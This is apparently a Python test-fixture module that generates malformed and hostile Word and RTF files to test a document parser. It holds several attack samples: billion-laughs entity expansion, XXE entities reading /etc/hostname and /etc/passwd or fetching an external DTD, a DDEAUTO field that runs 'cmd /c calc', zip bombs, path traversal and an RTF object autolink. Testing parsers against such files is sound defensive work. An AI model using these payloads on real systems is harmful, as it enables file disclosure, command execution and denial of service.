"""Word documents and RTF."""

from __future__ import annotations

import io
import zipfile
from functools import partial

from make_files import docx, paragraph, zipped

from .case import ADDRESS, GOOD, Case, of

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/package/2006/relationships"
WHOLE = docx(paragraph(GOOD) * 200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

LAUGHS = "<!DOCTYPE x [<!ENTITY a0 '哈哈'>" + "".join(
    f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10)
) + "]>"  # fmt: skip


def with_document(head: str, inside: str, codec: str = "utf-8") -> bytes:
    xml = f'{head}<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body></w:document>'
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml.encode(codec)})


def deep(times: int, name: str) -> bytes:
    return docx(paragraph(GOOD) + f"<w:{name}>" * times + f"</w:{name}>" * times)


def related(target: str) -> bytes:
    """Everything in Word that can lead outside: template, picture, frame, sub-document, link."""
    kinds = ("attachedTemplate", "image", "frame", "subDocument", "hyperlink", "oleObject", "aFChunk")
    links = "".join(
        f'<Relationship Id="r{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
        for i, kind in enumerate(kinds)
    )
    fields = f'<w:p><w:r><w:instrText>DDEAUTO cmd "/c calc" INCLUDETEXT "{target}"</w:instrText></w:r></w:p>'
    return docx(
        paragraph(GOOD) + fields + '<w:altChunk r:id="r6" xmlns:r="u"/><w:subDoc r:id="r3" xmlns:r="u"/>',
        parts={"word/_rels/document.xml.rels": f'<Relationships xmlns="{R}">{links}</Relationships>'},
    )


def many_relations(count: int) -> bytes:
    link = '<Relationship Id="a" Type="t" Target="document.xml"/>'
    return docx(
        paragraph(GOOD),
        parts={"word/_rels/document.xml.rels": f'<Relationships xmlns="{R}">{link * count}</Relationships>'},
    )


def many_parts(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", "")
        for i in range(count):
            package.writestr(f"word/{i}", "")
    return out.getvalue()


def padded(part: str, megabytes: int) -> bytes:
    return docx(paragraph(GOOD), parts={part: "<a>" + " " * (megabytes * 1024 * 1024) + "</a>"})


def numbered_in_circles() -> bytes:
    """Styles that are based on each other, and a list that refers to itself."""
    styles = "".join(
        f'<w:style w:styleId="{a}"><w:basedOn w:val="{b}"/>'
        '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        for a, b in (("A", "B"), ("B", "A"))
    )
    numbers = (
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="A"/><w:lvl w:ilvl="0"><w:start w:val="99999999999"/>'
        '<w:lvlText w:val="%1%2%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    )
    body = f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{GOOD}</w:t></w:r></w:p>'
    return docx(
        body,
        parts={
            "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>',
            "word/numbering.xml": f'<w:numbering xmlns:w="{W}">{numbers}</w:numbering>',
        },
    )


def rtf(inside: str) -> bytes:
    return b"{\\rtf1\\ansi\\ansicpg936 " + inside.encode("gbk") + b"}"


CASES: tuple[Case, ...] = (
    *(of(f"cut-{i}.docx", WHOLE[: len(WHOLE) * i // 5], "cut off") for i in (1, 2, 3, 4)),
    of("flipped.docx", bytes(b ^ (i % 97 == 5) for i, b in enumerate(WHOLE)), "damaged"),
    of("laughs.docx", with_document(LAUGHS, "&a9;"), "declares XML entities"),
    of("laughs-utf16.docx", with_document(LAUGHS, "&a9;", "utf-16"), "declares XML entities"),
    of("laughs-utf7.docx", with_document('<?xml version="1.0" encoding="utf-7"?>' + LAUGHS, "&a9;"), "declares XML"),
    of("file.docx", with_document("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>", "&a;"), "declares XML"),
    of("parameter.docx", with_document(f"<!DOCTYPE x SYSTEM 'http://{ADDRESS}/x.dtd'>", GOOD), "declares XML"),
    of("outside.docx", related(f"http://{ADDRESS}/x")),
    of("outside-file.docx", related("file:///etc/passwd")),
    of("relations.docx", many_relations(200_000), "a zip bomb"),
    Case("parts.docx", partial(many_parts, 100_001), "declares 100002 parts", is_slow=True),
    Case("deep-sdt.docx", partial(deep, 20_000, "sdt"), "damaged"),
    Case("deep-tables.docx", partial(deep, 300, "tbl"), ""),
    Case("padded.docx", partial(padded, "word/styles.xml", 40), "a zip bomb"),
    of("circles.docx", numbered_in_circles()),
    of("traversal.docx", zipped({"[Content_Types].xml": b"", "../../word/document.xml": b"<x/>"}), "holds no text"),
    of("no-text.docx", docx(""), "holds no text"),
    of("macro.docm", docx(paragraph(GOOD), parts={"word/vbaProject.bin": "x"})),
    of("encrypted.docx", OLE + bytes(5000) + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    of("encrypted.doc", OLE + bytes(5000) + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    of("empty-ole.doc", OLE + bytes(5000), "."),
    *(of(f"cut-{i}.rtf", rtf(GOOD * 50)[: i * 800], "cut off") for i in (1, 2, 3, 4)),
    of("cut.rtf", rtf(GOOD)[:-1], "cut off"),
    of("deep.rtf", rtf("{" * 200_000 + GOOD + "}" * 200_000)),
    of("object.rtf", rtf("{\\object\\objautlink{\\*\\objdata " + "41" * 50_000 + "}}" + GOOD)),
    of("unicode.rtf", rtf("\\u-99999999999? \\u99999999? \\'zz \\bin999999999 " + GOOD), "damaged"),
)
